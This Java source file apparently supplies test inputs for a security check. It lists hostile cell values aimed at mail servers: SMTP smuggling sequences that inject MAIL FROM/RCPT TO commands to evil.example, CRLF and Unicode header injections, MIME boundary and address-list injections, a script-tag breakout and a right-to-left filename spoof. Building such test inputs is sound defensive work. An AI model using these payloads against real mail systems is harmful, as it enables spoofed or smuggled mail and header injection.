// SPDX-License-Identifier: Apache-2.0
package pli.checks.security;

import java.util.LinkedHashMap;
import java.util.Map;

/// What somebody may write into a cell of a table in the hope that a mail server obeys it.
final class HostileCells {

  private static final String HEADER = "X-Canary: 1";

  /// RFC 5321 §4.1.1.4 ends a content with CRLF dot CRLF alone; servers were found that take one of
  /// these for it.
  private static final Map<String, String> ALMOST_ENDS =
      Map.of(
          "lf dot lf", "\n.\n",
          "lf dot cr", "\n.\r",
          "cr dot lf", "\r.\n",
          "cr dot cr", "\r.\r",
          "lf dot crlf", "\n.\r\n",
          "cr dot crlf", "\r.\r\n",
          "crlf dot cr crlf", "\r\n.\r\r\n",
          "cr crlf dot cr crlf", "\r\r\n.\r\r\n",
          "crlf nul dot crlf", "\r\n\0.\r\n");

  private HostileCells() {}

  /// Name to text.
  static Map<String, String> all() {
    Map<String, String> cells = new LinkedHashMap<>();
    injections(cells);
    ALMOST_ENDS.forEach(
        (name, end) ->
            cells.put(
                "smuggling by " + name,
                "a" + end + "MAIL FROM:<evil@evil.example>\r\nRCPT TO:<x@evil.example>\r\nDATA\r\n"
                    + HEADER));
    return cells;
  }

  private static void injections(Map<String, String> cells) {
    cells.put("crlf", "\r\n" + HEADER);
    cells.put("lf", "\n" + HEADER);
    cells.put("cr", "\r" + HEADER);
    cells.put("empty line", "\r\n\r\n" + HEADER);
    cells.put("folded", "\r\n\t" + HEADER);
    cells.put("nul", "a\0" + HEADER);
    cells.put("vertical tab", "a\u000b" + HEADER);
    cells.put("form feed", "a\f" + HEADER);
    cells.put("next line", "a\u0085" + HEADER);
    cells.put("line separator", "a\u2028" + HEADER);
    cells.put("paragraph separator", "a\u2029" + HEADER);
    cells.put("letters that end in 0D and 0A", "a\u010d\u010a" + HEADER);
    cells.put("percent", "a%0d%0a" + HEADER);
    cells.put("encoded word", "=?utf-8?q?a=0D=0AX-Canary:_1?=");
    cells.put("long line", "x".repeat(1_200));
    cells.put("very long", "y ".repeat(20_000));
    cells.put("lone surrogate", "a\ud800b");
    cells.put("right to left", "\u202egnp.exe");
    cells.put("end of tag", "\"><script>x</script>");
    cells.put("parameter", "a> SIZE=1");
    cells.put("quoted pair", "\"a\\\r\nX-Canary: 1\"");
    cells.put("comma", "a, x@evil.example");
    cells.put("semicolon", "a; x@evil.example");
    cells.put("group", "all: x@evil.example, y@evil.example;");
    cells.put("nested comments", "(".repeat(2_000) + ")".repeat(2_000));
    cells.put("source route", "<@evil.example:x@evil.example>");
    cells.put("commands", "\r\n.\r\nRCPT TO:<x@evil.example>\r\nDATA\r\n" + HEADER);
    cells.put("boundary", "\r\n--\r\nContent-Type: text/html\r\n\r\n" + HEADER);
  }
}
